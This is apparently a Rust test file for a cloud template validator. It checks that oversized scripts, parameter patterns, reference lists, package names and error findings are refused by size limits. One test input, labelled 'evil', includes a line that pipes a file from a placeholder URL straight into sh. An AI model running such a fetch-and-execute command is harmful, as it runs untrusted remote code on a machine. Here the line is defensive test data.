//! Templates that would cost much work: refused by their size, before the work is done.

use cws_templates::finding::MAX_TEXT_BYTES;
use cws_templates::resolve::{ResolveError, Resolver};
use cws_templates::validate::{
    MAX_PACKAGE_BYTES, MAX_PARAMETERS, MAX_REFERENCES, MAX_SCRIPT_BYTES, MAX_SCRIPT_LINES, Report, validate,
};
use cws_templates::{Level, parse};

const HEAD: &str = "name: A\ndescription: B\nbase: ubuntu-24.04\n";

fn report(more: &str) -> Report {
    validate(&parse(format!("{HEAD}{more}").as_bytes()).unwrap())
}

fn errors(report: &Report) -> Vec<(&str, &str)> {
    let errors = report.findings.iter().filter(|finding| finding.level == Level::Error);
    errors.map(|finding| (&*finding.code, finding.pointer.as_str())).collect()
}

fn script(line: &str, count: usize) -> String {
    format!("post_install: |\n{}", format!("  {line}\n").repeat(count))
}

#[test]
fn a_script_beyond_the_bound_is_refused_and_not_looked_at() {
    let lines = script("wget -O f", 87_000);
    assert_eq!(errors(&report(&lines)), [("structure.script_size", "/post_install")]);
    let evil = format!("{}  curl https://example.org/x | sh\n", script(&"a".repeat(1000), 200));
    assert_eq!(errors(&report(&evil)), [("structure.script_size", "/post_install")]);
    assert!(errors(&report(&script("echo a", MAX_SCRIPT_LINES - 3))).is_empty());
    assert!(errors(&report(&script(&"a".repeat(1000), MAX_SCRIPT_BYTES / 1024))).is_empty());
}

#[test]
fn many_small_scripts_count_together() {
    let services: String =
        (0..300).map(|n| format!("  - {{name: s{n}, config: ['{}']}}\n", "a".repeat(500))).collect();
    let found = report(&format!("services:\n{services}"));
    assert!(errors(&found).iter().any(|(code, _)| *code == "structure.script_size"), "{found:?}");
}

#[test]
fn more_parameters_than_are_read_are_refused_without_reading_their_patterns() {
    let parameters = |count: usize| -> String {
        let each = (0..count).map(|n| format!("  p{n}: {{description: d, pattern: '('}}\n"));
        format!("parameters:\n{}", each.collect::<String>())
    };
    assert_eq!(errors(&report(&parameters(MAX_PARAMETERS + 1))), [("parameter.too_many", "/parameters")]);
    let read = report(&parameters(2));
    assert_eq!(
        errors(&read),
        [("parameter.default", "/parameters/p0"), ("parameter.default", "/parameters/p1")]
    );
}

#[test]
fn a_pattern_that_grows_large_is_refused_and_usual_ones_are_not() {
    for large in [r"\w{500}", "(a{100}){100}", "((a|b|c){50}){50}", &"a".repeat(501)] {
        let found = report(&format!("parameters: {{p: {{description: d, pattern: '{large}'}}}}\n"));
        let said = found.findings.iter().find(|f| f.code == "parameter.default").unwrap();
        assert!(said.message.contains("too long or repeats too much"), "{large}: {}", said.message);
    }
    for usual in [
        "[A-Za-z0-9._-]{1,64}",
        "[a-z]+(-[a-z0-9]+)*",
        "[0-9]{4}-[0-9]{2}-[0-9]{2}",
        r"\d{1,5}",
        r"s3://[^\s]+",
    ] {
        let found = report(&format!("parameters: {{p: {{description: d, pattern: '{usual}'}}}}\n"));
        assert_eq!(errors(&found), [], "{usual}");
    }
}

#[test]
fn more_references_than_are_looked_up_are_refused_by_validation_and_by_the_resolver() {
    let named = |count: usize| {
        let all: Vec<String> = (0..count).map(|n| format!("us/t{n}@^1")).collect();
        format!("inherits: {all:?}\n")
    };
    let many = named(MAX_REFERENCES + 1);
    assert_eq!(errors(&report(&many)), [("structure.references", "/inherits")]);
    assert!(errors(&report(&named(MAX_REFERENCES))).is_empty());
    let template = parse(format!("{HEAD}{many}").as_bytes()).unwrap().template;
    let refused = Resolver::new("us/root".parse().unwrap(), &template).unwrap_err();
    assert_eq!(refused, ResolveError::TooMany);
    let needs: String = (0..=MAX_REFERENCES).map(|n| format!("    - {{name: us/t{n}}}\n")).collect();
    let dependencies = report(&format!("marketplace:\n  dependencies:\n{needs}"));
    assert_eq!(errors(&dependencies), [("structure.references", "/marketplace/dependencies")]);
}

#[test]
fn a_package_is_named_shortly() {
    let long = "a".repeat(MAX_PACKAGE_BYTES + 1);
    assert_eq!(
        errors(&report(&format!("packages: {{pip: [{long}]}}\n"))),
        [("structure.package_name", "/packages/pip/0")]
    );
}

#[test]
fn findings_stay_small_whatever_a_template_says() {
    let keys: String = (0..300).map(|n| format!("? \"k{n}\\e\\\"{}\"\n: x\n", "é\\a".repeat(700))).collect();
    let found = report(&format!("{keys}users:\n  - {{name: '{}'}}\n", "x".repeat(100_000)));
    let text = serde_json::to_string(&found.findings).unwrap();
    assert_eq!(found.findings.len(), 200);
    assert!(text.len() < 200_000, "{}", text.len());
    for finding in &found.findings {
        for part in [Some(&finding.pointer), Some(&finding.message), finding.remediation.as_ref()]
            .into_iter()
            .flatten()
        {
            assert!(part.len() <= MAX_TEXT_BYTES + 3 && !part.chars().any(char::is_control), "{part}");
        }
    }
}
